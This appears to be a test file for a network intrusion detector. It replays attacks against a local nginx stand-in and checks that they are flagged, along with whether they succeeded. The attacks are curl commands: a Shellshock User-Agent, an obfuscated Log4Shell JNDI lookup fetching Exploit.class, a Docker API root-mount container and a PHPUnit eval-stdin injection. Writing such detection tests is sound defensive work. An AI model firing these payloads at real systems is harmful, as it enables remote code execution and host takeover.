// Real nginx, real curl, real packets: attacks against a web server are told, how they went too, and an ordinary visit is silent.
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { wireModules } from '../../src/cli/wire-modules.ts'
import { factsOf } from '../../src/core/facts.ts'
import { exploitAttempt } from '../../src/detect/exploit-attempt.ts'
import { exploitSucceeded } from '../../src/detect/exploit-succeeded.ts'
import { loadIntel } from '../../src/intel/load.ts'
import { readCaptures } from '../../src/wire/read-captures.ts'

const needed = ['/usr/sbin/nginx', '/usr/bin/curl', '/usr/bin/tcpdump']
const skip = !needed.every(path => existsSync(path)) && 'needs nginx, curl and tcpdump'
mkdirSync('/var/cache/davylamp-tests', { recursive: true })
const scratch = mkdtempSync('/var/cache/davylamp-tests/http-')
after(() => rmSync(scratch, { recursive: true, force: true }))

// Plays a Docker API, a page that shows the output of a command, a victim that obeys, and an ordinary site.
const nginx = `
daemon off; pid ${scratch}/nginx.pid; error_log ${scratch}/error.log; worker_processes 1;
events {}
http {
  access_log off; gzip on; gzip_min_length 1; gzip_types text/plain application/json; default_type text/plain;
  client_body_temp_path ${scratch}/b; proxy_temp_path ${scratch}/p; fastcgi_temp_path ${scratch}/f; uwsgi_temp_path ${scratch}/u; scgi_temp_path ${scratch}/s;
  server {
    listen 127.0.0.1:2375;
    location ~ /containers/create$ { return 201 '{"Id":"4f6a","Warnings":[]}'; }
    location /cgi-bin/ { return 200 'uid=33(www-data) gid=33(www-data) groups=33(www-data) aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'; }
    location /obeys/ { proxy_set_header X-Api-Version ''; proxy_bind 127.0.0.1; proxy_pass http://127.0.0.9:8888/Exploit.class; }
    location / { return 404; }
  }
  server { listen 127.0.0.9:8888; location / { return 200 'x'; } }
}
`

/** The findings of a capture that was made while `commands` ran beside nginx, in a network of their own. */
async function findingsOf(name: string, commands: readonly string[]) {
  const file = join(scratch, `${name}.pcap`)
  writeFileSync(join(scratch, 'nginx.conf'), nginx)
  const script = `
    ip link set lo up
    nginx -c ${scratch}/nginx.conf & server=$!
    tcpdump -i lo -U -w ${file} -Z root tcp 2>${scratch}/tcpdump.log & dump=$!
    for _ in $(seq 100); do grep -q listening ${scratch}/tcpdump.log && curl -s -o /dev/null http://127.0.0.9:8888/ && break; sleep 0.1; done
    ${commands.join('\n')}
    sleep 1; kill -INT $dump; wait $dump; kill $server; wait`
  const { status, stderr } = spawnSync('unshare', ['-n', 'bash', '-c', script], { encoding: 'utf8' })
  assert.ok(existsSync(file), `${status} ${stderr}`)
  const intel = loadIntel()
  const { rows } = await readCaptures([file], { ...wireModules, intel }, {}, () => {})
  const facts = factsOf(rows)
  return [exploitAttempt, exploitSucceeded].flatMap(detector => [...detector.detect(facts, intel, new Set())])
}

test('an ordinary visit raises nothing above low; an open Docker API is told as context', { skip }, async () => {
  const found = await findingsOf('visit', [
    'curl -s --compressed http://127.0.0.1:2375/ http://127.0.0.1:2375/search?q=jndi%20ldap%20wget%20http',
    `curl -s -H 'Content-Type: application/json' -d '{"Image":"postgres","HostConfig":{"Binds":["/srv/db:/data"]}}' http://127.0.0.1:2375/v1.41/containers/create`,
  ])
  assert.deepEqual(
    found.map(({ severity, signal, title }) => `${severity} ${signal} ${title.en}`),
    ['low context 127.0.0.1 tries exploits: Docker Engine API'],
  )
})

test('attacks are told with how they went', { skip }, async () => {
  const found = await findingsOf('attacks', [
    `curl -s -H 'Content-Type: application/json' -H 'Transfer-Encoding: chunked' -d '{"Image":"alpine","HostConfig":{"Binds": [ "/:/mnt" ]}}' http://127.0.0.1:2375/v1.41/containers/create`,
    `curl -s --compressed -A '() { :; }; echo; /usr/bin/id' http://127.0.0.1:2375/cgi-bin/status`,
    `curl -s -H 'X-Api-Version: \${\${lower:j}ndi:\${::-l}dap://127.0.0.9:8888/Exploit}' http://127.0.0.1:2375/obeys/`,
    `curl -s -d '<?php system(1);' http://127.0.0.1:2375/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php`,
  ])
  const told = found.map(
    ({ detector, severity, title }) => `${detector} ${severity} ${title.en.replace(/^\S+ (?:broke into \S+ |tries exploits: )/, '')}`,
  )
  assert.deepEqual(told.sort(), [
    // Refused, but beside an order to an open Docker API that was not.
    'exploit-attempt medium CVE-2017-9841, Docker Engine API',
    'exploit-succeeded high (Apache Log4j 2 CVE-2021-44228 CVE-2021-45046)',
    'exploit-succeeded high (Docker Engine API)',
    'exploit-succeeded high (GNU Bash (CGI) CVE-2014-6271 CVE-2014-7169)',
  ])
})
